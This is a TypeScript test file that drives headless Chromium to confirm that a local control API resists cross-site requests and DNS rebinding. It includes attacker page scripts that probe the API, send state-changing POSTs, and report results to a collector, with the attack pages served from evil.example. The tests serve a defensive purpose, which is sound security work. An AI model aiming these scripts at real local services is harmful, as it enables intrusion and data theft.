// Pages of other sites in a real browser, against a director that listens at 127.0.0.1.
//
//   chromium ──> http://evil.example:ATTACKER   a page that asks http://127.0.0.1:DIRECTOR
//            ──> http://evil.example:DIRECTOR   a page whose name then resolves to the director (DNS rebinding): the
//                                               attacker's server leaves the port, and the director takes it
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { listenApi, prepareListeners } from '../../../src/api/server/listen.ts';
import { ControlDouble } from '../../unit/api/control-double.ts';

const BROWSER = ['chromium', 'chromium-browser', 'google-chrome'].find(
  (name) => spawnSync(name, ['--version']).status === 0,
);
const FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--host-resolver-rules=MAP evil.example 127.0.0.1',
];
const TOLD_WITHIN_MS = 60_000;

let directory: string;
let control: ControlDouble;
let release: AsyncDisposableStack;

beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'culvert-browser-'));
  control = new ControlDouble();
  release = new AsyncDisposableStack();
});

afterEach(async () => {
  await release.disposeAsync();
  await rm(directory, { recursive: true, force: true, maxRetries: 10 });
});

async function director(port: number): Promise<string> {
  const listen = { address: '127.0.0.1', port, names: undefined, tokenFile: undefined, tls: undefined };
  const api = await listenApi({
    control,
    version: '1',
    onDown: () => undefined,
    socketPath: join(directory, 'culvert.sock'),
    listeners: await prepareListeners({ listen, metricsListen: undefined }, () => undefined),
  });
  release.defer(() => api.close());
  return api.urls[0] ?? '';
}

/** Begins to show a page; the profile is new and empty. */
function open(url: string, ...more: string[]): ReturnType<typeof spawn> {
  const flags = [...FLAGS, `--user-data-dir=${join(directory, 'profile')}`, ...more];
  const browser = spawn(BROWSER ?? '', [...flags, url], {
    stdio: ['ignore', 'pipe', 'ignore'],
    detached: true,
    env: { ...process.env, HOME: directory },
  });
  release.defer(async () => {
    if (browser.exitCode !== null) return;
    process.kill(-(browser.pid ?? 0), 'SIGKILL');
    await once(browser, 'exit');
  });
  return browser;
}

/** Serves pages, and hears what their scripts report. */
class Attacker {
  readonly #server: Server;
  readonly #report = Promise.withResolvers<Record<string, string>>();
  page = '';
  onPage: () => void = () => undefined;

  private constructor() {
    this.#server = createServer((request, response) => {
      response.setHeader('access-control-allow-origin', '*');
      if (request.method === 'POST') {
        void text(request).then((body) => {
          this.#report.resolve(JSON.parse(body) as Record<string, string>);
          response.end();
        });
      } else if (request.url === '/') {
        response.setHeader('content-type', 'text/html');
        response.setHeader('connection', 'close');
        response.end(this.page, () => this.onPage());
      } else response.writeHead(404).end();
    });
  }

  static async listen(): Promise<Attacker> {
    const attacker = new Attacker();
    attacker.#server.listen(0, '127.0.0.1');
    await once(attacker.#server, 'listening');
    release.defer(() => attacker.close());
    return attacker;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  async close(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }

  /** What the page's script has seen. */
  async report(): Promise<Record<string, string>> {
    const late = AbortSignal.timeout(TOLD_WITHIN_MS);
    return Promise.race([this.#report.promise, once(late, 'abort').then(() => ({ page: 'said nothing' }))]);
  }
}

/** Asks in each way that a page has, and reports what it sees of the answers. */
function script(target: string, collector: string): string {
  return `<script>
    const seen = {};
    const ask = async (name, path, options) => {
      try {
        const answer = await fetch(${JSON.stringify(target)} + path, options);
        seen[name] = answer.type + ' ' + answer.status + ' ' + await answer.text();
      } catch (error) { seen[name] = 'failed'; }
    };
    const load = (name, tag, url) => new Promise((done) => {
      const element = document.createElement(tag);
      element.onload = () => { seen[name] = 'loaded'; done(); };
      element.onerror = () => { seen[name] = 'failed'; done(); };
      element.src = url;
      document.head.append(element);
      setTimeout(done, 3000);
    });
    const json = { 'content-type': 'application/json' };
    const body = '{"address":"10.0.1.2"}';
    (async () => {
      await ask('read', '/v1/reals');
      await ask('events', '/v1/events');
      await ask('configuration', '/v1/config');
      await ask('opaque', '/v1/reals', { mode: 'no-cors' });
      await ask('drain', '/v1/reals/drain', { method: 'POST', headers: json, body });
      await ask('plain drain', '/v1/reals/drain', { method: 'POST', mode: 'no-cors', body });
      await ask('down', '/v1/down', { method: 'POST', mode: 'no-cors' });
      await ask('reload', '/v1/reload', { method: 'POST', mode: 'no-cors' });
      await load('script', 'script', ${JSON.stringify(target)} + '/v1/reals');
      await fetch(${JSON.stringify(collector)}, { method: 'POST', body: JSON.stringify(seen) });
    })();
  </script>`;
}

describe.skipIf(BROWSER === undefined)(
  `a browser${BROWSER === undefined ? ' (skipped: no chromium is installed)' : ''}`,
  () => {
    test('shows the answers of the director itself', async () => {
      const url = await director(0);
      const browser = open(`${url}/v1/reals`, '--dump-dom');
      if (browser.stdout === null) throw new Error('the browser has no output');
      expect(await text(browser.stdout)).toContain('10.0.1.2');
    });

    test('lets a page of another site neither read nor change anything', async () => {
      const url = await director(0);
      const attacker = await Attacker.listen();
      attacker.page = script(url, `http://127.0.0.1:${attacker.port}/`);
      open(`http://evil.example:${attacker.port}/`, '--remote-debugging-port=0');
      const seen = await attacker.report();
      expect(Object.keys(seen)).toContain('reload');
      expect(seen['read']).toBe('failed');
      expect(JSON.stringify(seen)).not.toContain('10.0.1.2');
      expect(control.calls).toEqual([]);
    });

    test('lets a page whose name now resolves to the director neither read nor change anything', async () => {
      const [attacker, collector] = [await Attacker.listen(), await Attacker.listen()];
      const { port } = attacker;
      attacker.page = `<script>
        // Until somebody else answers at this name and port.
        const wait = async () => {
          const answer = await fetch('/v1/status').catch(() => undefined);
          if (answer === undefined || answer.status === 404) return void setTimeout(wait, 50);
          document.write(${JSON.stringify(script('', `http://127.0.0.1:${collector.port}/`)).replaceAll('<', '\\u003c')});
        };
        wait();
      </script>`;
      const shown = new Promise<void>((resolve) => {
        attacker.onPage = resolve;
      });
      open(`http://evil.example:${port}/`, '--remote-debugging-port=0');
      await shown;
      await attacker.close();
      await director(port);
      const seen = await collector.report();
      expect(seen['read']).toMatch(/^basic 403 .*FOREIGN_PAGE/);
      expect(seen['down']).toMatch(/^basic 403 .*FOREIGN_PAGE/);
      expect(JSON.stringify(seen)).not.toMatch(/"health|"override/);
      expect(control.calls).toEqual([]);
    });
  },
);
